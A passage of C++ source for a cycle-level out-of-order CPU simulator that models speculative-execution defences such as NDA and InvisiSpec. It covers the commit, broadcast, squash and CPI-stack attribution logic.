               hier_.mshrDataForTest().testDuplicatePrimary();
      case FuzzCorruption::kMshrGhostTarget:
        // A fill about to wake a load the LSQ has never heard of.
        return hier_.mshrEnabled() &&
               hier_.mshrDataForTest().testAddGhostTarget(nextSeq_ +
                                                          1000);
      case FuzzCorruption::kMshrOverflow:
        // More in-flight misses than registers exist to track them.
        return hier_.mshrEnabled() &&
               hier_.mshrDataForTest().testOverflow(
                   cycle_ + hier_.params().l2.hitLatency +
                   hier_.params().dramLatency);
      case FuzzCorruption::kMshrStuckFill:
        // A fill the memory system lost: scheduled beyond any legal
        // miss latency, so its waiting loads would sleep forever.
        return hier_.mshrEnabled() &&
               hier_.mshrDataForTest().testStuckFill();
      default:
        return false;
    }
}

void
OooCore::tick()
{
    ++cycle_;
    ++counters_.cycles;
    for (PerfCounters &c : threadCounters_)
        ++c.cycles;
    completionsThisCycle_ = 0;

    // Non-blocking mode: land every fill due this cycle before any
    // stage looks at the tags (the completing load's line must be
    // present when it wakes).
    if (hier_.mshrEnabled())
        hier_.advance(cycle_);

    commitStage();
    completeStage();
    issueStage();
    dispatchStage();
    fetchStage();

    if (outstandingMisses_ > 0) {
        ++counters_.mlpCycles;
        counters_.mlpAccum += static_cast<std::uint64_t>(outstandingMisses_);
    }
    if (completionsThisCycle_ > 0) {
        ++counters_.ilpCycles;
        counters_.ilpAccum += completionsThisCycle_;
    }

    if (checker_)
        checker_->onCycleEnd(*this);
}

void
OooCore::run(std::uint64_t max_insts, Cycle max_cycles)
{
    const std::uint64_t target =
        max_insts > ~std::uint64_t{0} - committed_ ? ~std::uint64_t{0}
                                                   : committed_ + max_insts;
    commitTarget_ = target;
    const Cycle cycle_limit =
        max_cycles == ~Cycle{0} ? ~Cycle{0} : cycle_ + max_cycles;
    lastCommitCycle_ = cycle_;
    while (!halted_ && committed_ < target && cycle_ < cycle_limit) {
        tick();
        NDA_ASSERT(cycle_ - lastCommitCycle_ < 500000,
                   "no commit for 500k cycles at pc ~%llu (deadlock?)",
                   static_cast<unsigned long long>(
                       threads_[0].rob.empty()
                           ? threads_[0].fetchPc
                           : threads_[0].rob.front()->pc));
    }
}

// --------------------------------------------------------------------------
// Commit
// --------------------------------------------------------------------------

void
OooCore::commitStage()
{
    unsigned ncommit = 0;
    std::fill(commitsThisCycle_.begin(), commitsThisCycle_.end(), 0u);
    for (ThreadContext &tc : threads_)
        tc.commitBreak = CommitBreak::kNone;

    // Shared commit bandwidth, threads served in rotation order so
    // neither context can monopolise retirement. One thread reduces
    // to the pre-SMT loop exactly.
    for (unsigned k = 0;
         k < numThreads_ && ncommit < cfg_.core.commitWidth; ++k) {
        const unsigned tid =
            (static_cast<unsigned>(cycle_) + k) % numThreads_;
        ThreadContext &tc = threads_[tid];
        PerfCounters *tcc = tcnt(tid);

    // Stop exactly at the run() instruction target so measurement
    // windows have precise boundaries.
    while (ncommit < cfg_.core.commitWidth && !tc.rob.empty() &&
           !tc.halted && committed_ < commitTarget_) {
        DynInstPtr inst = tc.rob.front();

        if (!inst->executed) {
            tc.commitBreak = CommitBreak::kNotExecuted;
            break; // stall; classified below
        }

        if (inst->fault != FaultType::kNone) {
            // Trap delivery is not instantaneous: the fault fires
            // `faultLatency` cycles after the op reaches the head.
            // Dependents keep executing meanwhile — the wrong-path
            // window chosen-code attacks exploit (paper §3.1). NDA's
            // load restriction closes it by never broadcasting the
            // faulting load's value.
            if (!inst->faultPending) {
                inst->faultPending = true;
                inst->faultDeliverAt =
                    cycle_ + cfg_.core.faultLatency;
            }
            if (cycle_ < inst->faultDeliverAt) {
                tc.commitBreak = CommitBreak::kFaultWait;
                break;
            }
            raiseFault(inst);
            break;
        }

        // InvisiSpec-Future: loads that executed invisibly must
        // validate before retirement. The expose (cache fill) was
        // issued when older branches resolved; if the line was absent
        // from L1 at peek time, validation re-accesses the (now
        // filled) L1 and stalls retirement for one L1 round trip.
        if (secFor(tid).invisiSpec == InvisiSpecMode::kFuture &&
            inst->shadowLoad && !inst->validating) {
            if (!inst->exposed) {
                hier_.dataFill(inst->effAddr);
                inst->exposed = true;
            }
            inst->validating = true;
            inst->validateDoneAt =
                inst->peekLevel == HitLevel::kL1
                    ? cycle_
                    : cycle_ + hier_.params().l1d.hitLatency;
        }
        if (inst->validating && cycle_ < inst->validateDoneAt) {
            tc.commitBreak = CommitBreak::kValidate;
            break; // retirement stalled on validation
        }

        // NDA load restriction: a load wakes its dependents iff it is
        // about to retire (paper §5.3). The wake-up signal from the
        // retire stage reaches the issue queue one cycle later (there
        // is no bypass path from commit).
        inst->unsafeLoad = false;
        // Defensive: nothing older remains, so branch/bypass unsafety
        // is moot at the head.
        inst->unsafeBranch = false;
        inst->unsafeBypass = false;
        noteUnsafeCleared(*inst);
        if (inst->hasDest() && !inst->broadcasted &&
            !inst->pendingBcast) {
            inst->pendingBcast = true;
            inst->bcastEligibleAt = cycle_ +
                cfg_.core.retireWakeDelay +
                secFor(tid).extraBroadcastDelay;
            pendingBcast_.push_back(inst);
        }

        // Commit actions. A store needs its data register broadcast
        // before it can drain (split store-data micro-op).
        if (inst->isStore() && inst->src2 != kInvalidPhysReg &&
            !regs_.ready(inst->src2)) {
            tc.commitBreak = CommitBreak::kStoreData;
            break;
        }
        if (inst->isStore()) {
            if (hier_.mshrEnabled()) {
                // The drain needs a write-allocate slot; a full MSHR
                // file stalls commit this cycle (retry next).
                const MemRequestResult res = hier_.dataRequest(
                    inst->effAddr, cycle_, inst->seq,
                    MshrTargetKind::kStore, tid);
                if (res.rejected()) {
                    tc.commitBreak = CommitBreak::kStoreMshrFull;
                    break;
                }
            }
            inst->storeData = regs_.value(inst->src2);
            mem_.write(inst->effAddr, inst->storeData, inst->uop.size);
            if (!hier_.mshrEnabled())
                hier_.dataAccess(inst->effAddr);
            lsq_.commitStore(*inst);
            ++counters_.stores;
            if (tcc)
                ++tcc->stores;
            // DIFT: the committed store makes its data's taint (or
            // lack of it) the architectural taint of the location.
            if (dift_) {
                dift_->writeMemTaint(inst->effAddr, inst->uop.size,
                                     dift_->regTaint(inst->src2));
            }
        } else if (inst->isLoad()) {
            lsq_.commitLoad(*inst);
            ++counters_.loads;
            if (tcc)
                ++tcc->loads;
        }

        if (inst->uop.traits().isCondBranch) {
            bp_.commitUpdate(inst->uop, inst->pc, inst->actualTaken,
                             inst->bpCkpt.history);
            ++counters_.condBranches;
            if (tcc)
                ++tcc->condBranches;
            if (inst->mispredicted) {
                ++counters_.condMispredicts;
                if (tcc)
                    ++tcc->condMispredicts;
            }
        } else if (inst->uop.traits().isIndirect) {
            ++counters_.indirectBranches;
            if (tcc)
                ++tcc->indirectBranches;
            if (inst->mispredicted) {
                ++counters_.indirectMispredicts;
                if (tcc)
                    ++tcc->indirectMispredicts;
            }
        }

        if (inst->uop.op == Opcode::kFence) {
            NDA_ASSERT(!tc.fencesInFlight.empty() &&
                           tc.fencesInFlight.front() == inst->seq,
                       "fence bookkeeping mismatch");
            tc.fencesInFlight.pop_front();
        }
        if (inst->uop.op == Opcode::kWrMsr) {
            NDA_ASSERT(!tc.wrmsrInFlight.empty() &&
                           tc.wrmsrInFlight.front() == inst->seq,
                       "wrmsr bookkeeping mismatch");
            tc.wrmsrInFlight.pop_front();
        }

        // Free the register holding the previous committed value.
        if (inst->dest != kInvalidPhysReg) {
            const RegId rd = inst->uop.rd;
            if (tc.commitMap[rd] != kInvalidPhysReg)
                regs_.free(tc.commitMap[rd]);
            tc.commitMap[rd] = inst->dest;
        }

        inst->committed = true;
        if (dift_)
            dift_->onCommit(inst->seq); // its mutations are archit.
        if (retireHook_)
            retireHook_(*inst, cycle_);
        tc.rob.pop_front();
        ++ncommit;
        ++commitsThisCycle_[tid];
        ++committed_;
        ++counters_.committedInsts;
        if (tcc)
            ++tcc->committedInsts;
        lastCommitCycle_ = cycle_;
        if (cpiStack_)
            cpiStack_->addSlots(StallCause::kCommit, 1, inst->pc);
        if (CpiStackProfiler *p = tcpi(tid))
            p->addSlots(StallCause::kCommit, 1, inst->pc);

        if (inst->uop.op == Opcode::kHalt) {
            tc.halted = true;
            halted_ = true;
            for (const ThreadContext &other : threads_)
                halted_ = halted_ && other.halted;
            break;
        }
        if (inst->uop.op == Opcode::kSpecOff ||
            inst->uop.op == Opcode::kSpecOn) {
            // Serializing: flush everything younger and refetch it
            // under the new speculation mode (paper SS8, Listing 4).
            tc.specDisabled = inst->uop.op == Opcode::kSpecOff;
            squashAfter(tid, inst->seq, inst->pc + 1,
                        SquashCause::kSerialize, inst->pc);
            break;
        }
    }
    }
    const unsigned ptid = priorityTid();
    classifyCycle(ncommit, ptid);
    if (cpiStack_ || !threadCpi_.empty())
        profileCycle(ncommit, ptid);
}

unsigned
OooCore::priorityTid() const
{
    for (unsigned k = 0; k < numThreads_; ++k) {
        const unsigned tid =
            (static_cast<unsigned>(cycle_) + k) % numThreads_;
        if (!threads_[tid].rob.empty())
            return tid;
    }
    return static_cast<unsigned>(cycle_) % numThreads_;
}

std::size_t
OooCore::robOccupancy() const
{
    std::size_t n = 0;
    for (const ThreadContext &tc : threads_)
        n += tc.rob.size();
    return n;
}

CycleClass
OooCore::classifyThread(unsigned committed_now,
                        const ThreadContext &tc) const
{
    if (committed_now > 0)
        return CycleClass::kCommit;
    if (tc.rob.empty())
        return CycleClass::kFrontendStall;
    const DynInstPtr &head = tc.rob.front();
    const bool mem_op = head->uop.isMemory() ||
                        (head->validating &&
                         cycle_ < head->validateDoneAt);
    return mem_op ? CycleClass::kMemoryStall
                  : CycleClass::kBackendStall;
}

void
OooCore::classifyCycle(unsigned committed_now, unsigned ptid)
{
    ++counters_.cycleClass[static_cast<int>(
        classifyThread(committed_now, threads_[ptid]))];
    for (unsigned t = 0; t < threadCounters_.size(); ++t) {
        ++threadCounters_[t].cycleClass[static_cast<int>(
            classifyThread(commitsThisCycle_[t], threads_[t]))];
    }
}

// --------------------------------------------------------------------------
// CPI-stack slot attribution (only reached with a profiler attached)
// --------------------------------------------------------------------------

namespace {

/** Chains deeper than this are charged to the last producer reached;
 *  real dependence chains through a 192-entry ROB rarely get close. */
constexpr int kMaxChaseDepth = 16;

/** NDA deferral bucket by the *producer's* class — the paper's policy
 *  axis (load restriction defers loads, branch restriction defers the
 *  ALU/control work under an unresolved branch). */
StallCause
ndaDeferCause(const DynInst &producer)
{
    if (producer.isLoadLike())
        return StallCause::kNdaDeferLoad;
    if (producer.isBranch())
        return StallCause::kNdaDeferControl;
    return StallCause::kNdaDeferAlu;
}

} // namespace

void
OooCore::profileCycle(unsigned ncommit, unsigned ptid)
{
    const unsigned width = cfg_.core.commitWidth;
    const bool edge = halted_ || committed_ >= commitTarget_;
    if (cpiStack_) {
        cpiStack_->onCycle();
        const std::uint64_t lost = width - ncommit;
        if (lost)
            attributeLostSlots(cpiStack_, ptid, lost, edge);
    }
    for (unsigned t = 0; t < threadCpi_.size(); ++t) {
        CpiStackProfiler *p = threadCpi_[t];
        if (!p)
            continue;
        p->onCycle();
        const ThreadContext &tc = threads_[t];
        // Slots another hardware thread retired into: lost to *this*
        // thread through SMT bandwidth sharing, not through a stall
        // of its own.
        if (ncommit > commitsThisCycle_[t]) {
            p->addSlots(StallCause::kSmtContention,
                        ncommit - commitsThisCycle_[t],
                        tc.rob.empty() ? tc.fetchPc
                                       : tc.rob.front()->pc);
        }
        const std::uint64_t lost = width - ncommit;
        if (lost)
            attributeLostSlots(p, t, lost, edge || tc.halted);
    }
}

void
OooCore::attributeLostSlots(CpiStackProfiler *p, unsigned tid,
                            std::uint64_t lost, bool edge)
{
    ThreadContext &tc = threads_[tid];
    if (edge) {
        // Window edge: the machine is done, the slots measure nothing.
        p->addSlots(StallCause::kIdle, lost,
                    tc.rob.empty() ? tc.fetchPc : tc.rob.front()->pc);
        return;
    }
    // In-order commit: every occupied slot behind the blocked head
    // shares the head's root cause. Slots beyond ROB occupancy never
    // had an instruction to retire — their cause is upstream (squash
    // refetch, frontend starvation, or a dispatch capacity limit).
    const std::uint64_t occupied =
        std::min<std::uint64_t>(lost, tc.rob.size());
    if (occupied) {
        const SlotAttr a = headCause(tid);
        p->addSlots(a.cause, occupied, a.pc);
    }
    if (lost > occupied) {
        const SlotAttr a = emptyCause(tid);
        p->addSlots(a.cause, lost - occupied, a.pc);
    }
}

OooCore::SlotAttr
OooCore::headCause(unsigned tid)
{
    ThreadContext &tc = threads_[tid];
    const DynInstPtr &head = tc.rob.front();
    switch (tc.commitBreak) {
      case CommitBreak::kFaultWait:
        // Trap-delivery latency is part of the fault's squash cost.
        return {StallCause::kSquashFault, head->pc};
      case CommitBreak::kValidate:
        // IS-Future validation is an L1 round trip at retirement.
        return {StallCause::kMemLatency, head->pc};
      case CommitBreak::kStoreMshrFull:
        return {StallCause::kMshrFull, head->pc};
      case CommitBreak::kStoreData:
        // Split store micro-ops: the data register is read at commit,
        // so the break is a dependence wait on src2's producer.
        buildProducerMap();
        return chaseBlockedReg(head->src2, head->pc, 0);
      case CommitBreak::kNotExecuted:
      case CommitBreak::kNone:
        break;
    }
    buildProducerMap();
    return chaseInst(head.get(), 0);
}

OooCore::SlotAttr
OooCore::emptyCause(unsigned tid) const
{
    const ThreadContext &tc = threads_[tid];
    if (tc.refetchPending) {
        // Between a squash and the refetched stream reaching dispatch,
        // the missing instructions are the flush's fault — charged to
        // the squashing instruction, not to the innocent frontend.
        StallCause c;
        switch (tc.lastSquashCause) {
          case SquashCause::kBranchMispredict:
            c = StallCause::kSquashBranch;
            break;
          case SquashCause::kMemOrderViolation:
            c = StallCause::kSquashMemOrder;
            break;
          case SquashCause::kFault:
            c = StallCause::kSquashFault;
            break;
          case SquashCause::kSerialize:
            c = StallCause::kSquashSerialize;
            break;
          default:
            c = StallCause::kFrontend;
            break;
        }
        return {c, tc.lastSquashPc};
    }
    // dispatchBlock still holds *last* cycle's outcome (this hook
    // runs in commit, before this cycle's dispatch) — exactly the
    // dispatch decision that produced today's ROB tail.
    const Addr pc =
        tc.fetchQueue.empty() ? tc.fetchPc : tc.fetchQueue.front()->pc;
    switch (tc.dispatchBlock) {
      case DispatchBlock::kIqFull:
        return {StallCause::kIqFull, pc};
      case DispatchBlock::kLqFull:
      case DispatchBlock::kSqFull:
        return {StallCause::kLsqFull, pc};
      case DispatchBlock::kRobFull:
      case DispatchBlock::kRegsFull:
        return {StallCause::kRobFull, pc};
      case DispatchBlock::kNone:
      case DispatchBlock::kFetchEmpty:
      case DispatchBlock::kFrontendDelay:
        break;
    }
    return {StallCause::kFrontend, pc};
}

void
OooCore::buildProducerMap()
{
    producerOf_.assign(cfg_.core.numPhysRegs, nullptr);
    for (const ThreadContext &tc : threads_) {
        for (const DynInstPtr &inst : tc.rob) {
            if (inst->dest != kInvalidPhysReg && !inst->broadcasted)
                producerOf_[inst->dest] = inst.get();
        }
    }
    // Committed NDA-deferred producers in the retire-wake window are
    // no longer in the ROB but still gate their consumers — without
    // them the load restriction's defining stall would show up as an
    // anonymous issue wait.
    for (const DynInstPtr &inst : pendingBcast_) {
        if (!inst->squashed && inst->dest != kInvalidPhysReg &&
            !inst->broadcasted) {
            producerOf_[inst->dest] = inst.get();
        }
    }
}

OooCore::SlotAttr
OooCore::chaseBlockedReg(PhysRegId r, Addr consumer_pc, int depth)
{
    const DynInst *p =
        r != kInvalidPhysReg && r < producerOf_.size() &&
                !regs_.ready(r)
            ? producerOf_[r]
            : nullptr;
    if (!p) {
        // Ready after all (or the producer left without a broadcast
        // record): the consumer is waiting on selection, not data.
        return {StallCause::kIssueWait, consumer_pc};
    }
    if (p->executed && !p->broadcasted) {
        // The value exists; only the tag broadcast is withheld. NDA's
        // deferral if the producer was ever unsafe, otherwise plain
        // port arbitration / retire-wake plumbing.
        if (p->everUnsafe)
            return {ndaDeferCause(*p), p->pc};
        return {StallCause::kIssueWait, p->pc};
    }
    return chaseInst(p, depth + 1);
}

OooCore::SlotAttr
OooCore::chaseInst(const DynInst *inst, int depth)
{
    if (depth >= kMaxChaseDepth)
        return {StallCause::kExecLatency, inst->pc};
    if (inst->issued || inst->executed) {
        // In flight: the remaining latency is the cost.
        const bool mem_op = inst->uop.isMemory() || inst->validating;
        return {mem_op ? StallCause::kMemLatency
                       : StallCause::kExecLatency,
                inst->pc};
    }
    // Waiting in the issue queue: find what sourcesReady() sees as
    // not ready (a store's src2 is read at commit, never here).
    const OpTraits &t = inst->uop.traits();
    PhysRegId blocked = kInvalidPhysReg;
    if (t.readsRs1 && inst->src1 != kInvalidPhysReg &&
        !regs_.ready(inst->src1)) {
        blocked = inst->src1;
    } else if (!inst->uop.isStore() && t.readsRs2 &&
               inst->src2 != kInvalidPhysReg &&
               !regs_.ready(inst->src2)) {
        blocked = inst->src2;
    }
    if (blocked == kInvalidPhysReg) {
        // Sources ready but still unissued: a structural reject (MSHR
        // full on its last attempt) or selection/port pressure.
        if (inst->mshrRejected)
            return {StallCause::kMshrFull, inst->pc};
        return {StallCause::kIssueWait, inst->pc};
    }
    return chaseBlockedReg(blocked, inst->pc, depth);
}

void
OooCore::raiseFault(const DynInstPtr &inst)
{
    // The faulting instruction does not retire; everything from it on
    // (inclusive) is squashed and fetch redirects to the handler.
    ++counters_.squashes;
    ++counters_.faults;
    if (PerfCounters *c = tcnt(inst->tid)) {
        ++c->squashes;
        ++c->faults;
    }
    const Addr handler = prog_.faultHandler;
    squashAfter(inst->tid, inst->seq - 1,
                handler == ~Addr{0} ? 0 : handler, SquashCause::kFault,
                inst->pc);
    if (handler == ~Addr{0}) {
        threads_[inst->tid].halted = true;
        halted_ = true;
        for (const ThreadContext &tc : threads_)
            halted_ = halted_ && tc.halted;
    }
}

// --------------------------------------------------------------------------
// Complete / broadcast
// --------------------------------------------------------------------------

void
OooCore::completeStage()
{
    // Collect this cycle's completion events in age order.
    std::vector<DynInstPtr> done;
    auto range_end = completionEvents_.upper_bound(cycle_);
    for (auto it = completionEvents_.begin(); it != range_end; ++it)
        done.push_back(it->second);
    completionEvents_.erase(completionEvents_.begin(), range_end);
    std::sort(done.begin(), done.end(),
              [](const DynInstPtr &a, const DynInstPtr &b) {
                  return a->seq < b->seq;
              });

    std::vector<DynInstPtr> to_broadcast;
    for (const DynInstPtr &inst : done) {
        if (inst->countedMiss) {
            --outstandingMisses_;
            inst->countedMiss = false;
        }
        if (inst->squashed)
            continue;

        inst->executed = true;
        inst->completedAt = cycle_;
        ++completionsThisCycle_;

        if (inst->isStore()) {
            inst->effAddrValid = true;
            // Memory-order violation? (speculative store bypass;
            // always same-thread — forwarding never crosses contexts)
            if (DynInstPtr victim = lsq_.checkViolations(*inst)) {
                ++counters_.memOrderViolations;
                ++counters_.squashes;
                if (PerfCounters *c = tcnt(inst->tid)) {
                    ++c->memOrderViolations;
                    ++c->squashes;
                }
                squashAfter(inst->tid, victim->seq - 1, victim->pc,
                            SquashCause::kMemOrderViolation,
                            inst->pc);
            }
            // Bypass Restriction: loads that no longer have any
            // unresolved bypassed store become safe (paper §5.2).
            for (const DynInstPtr &ld :
                 lsq_.retireBypass(inst->seq, inst->tid)) {
                if (ld->unsafeBypass) {
                    ld->unsafeBypass = false;
                    noteUnsafeCleared(*ld);
                    maybeQueueBroadcast(ld);
                }
            }
        }

        if (inst->squashed)
            continue; // a violation squash may have taken this one too

        if (inst->uop.op == Opcode::kWrMsr &&
            inst->fault == FaultType::kNone) {
            threads_[inst->tid]
                .msrs[static_cast<unsigned>(inst->uop.imm)] =
                inst->storeData;
            if (dift_) {
                dift_->setMsrTaint(
                    static_cast<unsigned>(inst->uop.imm), inst->taint);
            }
        }

        if (inst->isBranch())
            resolveBranch(inst);

        if (inst->squashed)
            continue;

        if (inst->dest != kInvalidPhysReg) {
            // Write back the value; readiness (the broadcast) is what
            // NDA defers for unsafe instructions (paper Fig 2).
            regs_.setValue(inst->dest, inst->result);
            // DIFT: taint travels with the value. Consumers only read
            // it after the broadcast sets the ready bit, which always
            // happens after this write.
            if (dift_)
                dift_->setRegTaint(inst->dest, inst->taint);
            if (inst->isUnsafe()) {
                ++counters_.deferredBroadcasts;
                if (PerfCounters *c = tcnt(inst->tid))
                    ++c->deferredBroadcasts;
            } else {
                to_broadcast.push_back(inst);
            }
        }
    }

    // Broadcast-port arbitration: same-cycle completions have
    // priority over deferred (newly-safe) broadcasts (paper §5.1).
    unsigned ports = cfg_.core.issueWidth;
    for (const DynInstPtr &inst : to_broadcast) {
        if (ports > 0) {
            broadcast(inst);
            --ports;
        } else {
            inst->pendingBcast = true;
            inst->bcastEligibleAt = cycle_ + 1;
            pendingBcast_.push_back(inst);
        }
    }
    std::sort(pendingBcast_.begin(), pendingBcast_.end(),
              [](const DynInstPtr &a, const DynInstPtr &b) {
                  return a->seq < b->seq;
              });
    std::deque<DynInstPtr> keep;
    for (const DynInstPtr &inst : pendingBcast_) {
        // A retired instruction's register may have been freed and
        // reallocated by the time its deferred retire-wake fires; by
        // then every consumer has already committed, so the wake is
        // both unnecessary and unsafe — drop it.
        const bool reg_reused =
            inst->committed &&
            threads_[inst->tid].commitMap[inst->uop.rd] != inst->dest;
        if (inst->squashed || inst->broadcasted || reg_reused) {
            inst->pendingBcast = false;
            continue;
        }
        if (ports > 0 && cycle_ >= inst->bcastEligibleAt) {
            inst->pendingBcast = false;
            broadcast(inst);
            --ports;
        } else {
            keep.push_back(inst);
        }
    }
    pendingBcast_.swap(keep);
}

void
OooCore::broadcast(const DynInstPtr &inst)
{
    NDA_ASSERT(inst->dest != kInvalidPhysReg, "broadcast without dest");
    regs_.setReady(inst->dest);
    inst->broadcasted = true;
    inst->broadcastedAt = cycle_;
    // Fig 2 step 3->4: how long NDA held this producer's tag after
    // completion. Only ever-unsafe producers are interesting — on the
    // unprotected baseline this records nothing.
    if (inst->everUnsafe && inst->executed &&
        cycle_ > inst->completedAt) {
        counters_.deferredBroadcastDelay.add(cycle_ -
                                             inst->completedAt);
        if (PerfCounters *c = tcnt(inst->tid))
            c->deferredBroadcastDelay.add(cycle_ - inst->completedAt);
    }
}

void
OooCore::maybeQueueBroadcast(const DynInstPtr &inst)
{
    if (inst->squashed || inst->isUnsafe() || !inst->executed ||
        inst->dest == kInvalidPhysReg || inst->broadcasted ||
        inst->pendingBcast) {
        return;
    }
    inst->pendingBcast = true;
    inst->bcastEligibleAt =
        cycle_ + secFor(inst->tid).extraBroadcastDelay;
    pendingBcast_.push_back(inst);
}

// --------------------------------------------------------------------------
// Branch resolution / squash
// --------------------------------------------------------------------------

void
OooCore::resolveBranch(const DynInstPtr &inst)
{
    const OpTraits &t = inst->uop.traits();

    // Speculative BTB update at execution; never reverted on squash.
    // This is the covert channel demonstrated in paper §3.
    if (t.isIndirect && !t.isReturn) {
        bp_.btbUpdate(inst->pc, inst->actualNextPc);
        // DIFT: a secret-derived target entered a structure that
        // survives the squash. A leak iff this branch is wrong-path.
        if (dift_ && inst->taint) {
            dift_->recordPending(inst->seq, inst->pc, LeakChannel::kBtb,
                                 "update", inst->actualNextPc, cycle_,
                                 inst->taint);
        }
    }

    // Squash *before* marking this branch resolved: the resolve walk
    // clears unsafe bits and exposes InvisiSpec shadow loads, and must
    // never touch the wrong-path instructions being discarded.
    inst->mispredicted = inst->actualNextPc != inst->predNextPc;
    if (inst->mispredicted) {
        ++counters_.squashes;
        if (PerfCounters *c = tcnt(inst->tid))
            ++c->squashes;
        squashAfter(inst->tid, inst->seq, inst->actualNextPc,
                    SquashCause::kBranchMispredict, inst->pc);
        // Recover predictor state to just before this branch, then
        // apply its actual outcome.
        bp_.restore(inst->bpCkpt);
        bp_.applyResolved(inst->uop, inst->pc, inst->actualTaken,
                          inst->actualNextPc);
    }

    if (inst->isSpecBranch())
        branchResolved(inst->tid, inst->seq);
}

void
OooCore::branchResolved(unsigned tid, InstSeqNum seq)
{
    ThreadContext &tc = threads_[tid];
    const bool was_front = !tc.unresolvedBranches.empty() &&
                           tc.unresolvedBranches.front() == seq;
    auto it = std::find(tc.unresolvedBranches.begin(),
                        tc.unresolvedBranches.end(), seq);
    if (it != tc.unresolvedBranches.end())
        tc.unresolvedBranches.erase(it);
    if (was_front)
        ndaClearWalk(tid);
}

void
OooCore::ndaClearWalk(unsigned tid)
{
    ThreadContext &tc = threads_[tid];
    const InstSeqNum boundary = tc.unresolvedBranches.empty()
                                    ? kInvalidSeqNum
                                    : tc.unresolvedBranches.front();
    // IS-Spectre exposes (fills) once no older branch can squash the
    // load. IS-Future must wait until retirement: older *faults* can
    // still squash, so exposing here would leak chosen-code accesses.
    const bool expose =
        secFor(tid).invisiSpec == InvisiSpecMode::kSpectre;
    for (const DynInstPtr &inst : tc.rob) {
        if (inst->seq >= boundary)
            break;
        if (inst->unsafeBranch) {
            inst->unsafeBranch = false;
            noteUnsafeCleared(*inst);
            maybeQueueBroadcast(inst);
        }
        if (expose && inst->shadowLoad && !inst->exposed &&
            inst->effAddrValid) {
            hier_.dataFill(inst->effAddr);
            inst->exposed = true;
            // DIFT: the expose fill is a cache mutation; an older
            // *fault* can still squash this load (IS-Spectre's gap).
            if (dift_ && inst->addrTaint) {
                dift_->recordPending(inst->seq, inst->pc,
                                     LeakChannel::kDCache, "expose-fill",
                                     inst->effAddr, cycle_,
                                     inst->addrTaint);
            }
        }
    }
}

void
OooCore::registerStats(StatsRegistry &reg, const std::string &prefix)
{
    CoreBase::registerStats(reg, prefix);
    bp_.registerStats(reg, prefix + ".bp");
    iq_.registerStats(reg, prefix + ".iq");
    lsq_.registerStats(reg, prefix + ".lsq");
    regs_.registerStats(reg, prefix + ".regfile");
    // Per-thread views exist only under SMT, so the single-thread
    // stats schema is untouched.
    for (unsigned t = 0; t < threadCounters_.size(); ++t) {
        threadCounters_[t].registerStats(
            reg, prefix + ".t" + std::to_string(t) + ".perf");
    }
}

void
OooCore::noteUnsafeCleared(DynInst &inst)
{
    if (!inst.everUnsafe || inst.unsafeClearedAt || inst.isUnsafe())
        return;
    inst.unsafeClearedAt = cycle_;
    counters_.unsafeResidency.add(cycle_ - inst.unsafeMarkedAt);
    if (PerfCounters *c = tcnt(inst.tid))
        c->unsafeResidency.add(cycle_ - inst.unsafeMarkedAt);
}

void
OooCore::squashAfter(unsigned tid, InstSeqNum keep_seq,
                     Addr redirect_pc, SquashCause cause, Addr cause_pc)
{
    ThreadContext &tc = threads_[tid];
    ++counters_.squashCause[static_cast<int>(cause)];
    if (PerfCounters *c = tcnt(tid))
        ++c->squashCause[static_cast<int>(cause)];
    // CPI stack: until the refetched stream reaches dispatch again,
    // empty commit slots belong to this squash (and to its culprit).
    tc.refetchPending = true;
    tc.lastSquashCause = cause;
    tc.lastSquashPc = cause_pc;
    // Restore front-end speculative predictor state youngest-first.
    for (auto it = tc.fetchQueue.rbegin(); it != tc.fetchQueue.rend();
         ++it) {
        if ((*it)->isBranch())
            bp_.restore((*it)->bpCkpt);
    }
    tc.fetchQueue.clear();

    bool unresolved_changed = false;
    while (!tc.rob.empty() && tc.rob.back()->seq > keep_seq) {
        DynInstPtr inst = tc.rob.back();
        inst->squashed = true;
        inst->squashCause = cause;
        if (dift_)
            dift_->onSquash(*inst); // promote pending leak events
        if (retireHook_)
            retireHook_(*inst, cycle_);
        if (inst->dest != kInvalidPhysReg) {
            tc.rmap.restore(inst->uop.rd, inst->prevDest);
            regs_.free(inst->dest);
        }
        if (inst->isBranch())
            bp_.restore(inst->bpCkpt);
        if (inst->isSpecBranch()) {
            auto it = std::find(tc.unresolvedBranches.begin(),
                                tc.unresolvedBranches.end(), inst->seq);
            if (it != tc.unresolvedBranches.end()) {
                unresolved_changed = unresolved_changed ||
                    it == tc.unresolvedBranches.begin();
                tc.unresolvedBranches.erase(it);
            }
        }
        if (inst->uop.op == Opcode::kFence) {
            auto it = std::find(tc.fencesInFlight.begin(),
                                tc.fencesInFlight.end(), inst->seq);
            if (it != tc.fencesInFlight.end())
                tc.fencesInFlight.erase(it);
        }
        if (inst->uop.op == Opcode::kWrMsr) {
            auto it = std::find(tc.wrmsrInFlight.begin(),
                                tc.wrmsrInFlight.end(), inst->seq);
            if (it != tc.wrmsrInFlight.end())
                tc.wrmsrInFlight.erase(it);
        }
        tc.rob.pop_back();
    }
    lsq_.squashYoungerThan(keep_seq, tid);
    iq_.removeSquashed();
    // NDA deferral/squash and in-flight fills: the squashed loads'
    // MSHR targets are cancelled (nobody wakes), but the fills
    // themselves are orphaned, not cancelled — wrong-path lines still
    // land, which is precisely the squash-surviving channel the
    // policies are measured against. Only this thread's targets drop;
    // the co-resident thread's in-flight loads are untouched.
    hier_.squashLoadTargets(keep_seq, tid);

    // Redirect fetch.
    tc.fetchPc = redirect_pc;
    tc.fetchBlocked = false;
    tc.lastFetchLine = ~Addr{0};

    if (unresolved_changed)
        ndaClearWalk(tid);
}

// --------------------------------------------------------------------------
// Issue / execute
// --------------------------------------------------------------------------

bool
OooCore::hasOlderUnresolvedBranch(unsigned tid, InstSeqNum seq) const
{
    const ThreadContext &tc = threads_[tid];
    return !tc.unresolvedBranches.empty() &&
           tc.unresolvedBranches.front() < seq;
}

bool
OooCore::hasOlderWrmsr(unsigned tid, InstSeqNum seq) const
{
    const ThreadContext &tc = threads_[tid];
    return !tc.wrmsrInFlight.empty() && tc.wrmsrInFlight.front() < seq;
}

void
OooCore::issueStage()
{
    unsigned issued = 0;
    unsigned mem_issued = 0;
    unsigned muldiv_issued = 0;
    iq_.selectReady(regs_, [&](const DynInstPtr &inst) -> bool {
        if (issued >= cfg_.core.issueWidth)
            return false;
        ThreadContext &tc = threads_[inst->tid];
        const OpTraits &t = inst->uop.traits();
        // lfence-like semantics: younger ops wait for fence retire.
        if (!tc.fencesInFlight.empty() &&
            tc.fencesInFlight.front() < inst->seq) {
            return false;
        }
        if (t.serializeAtHead &&
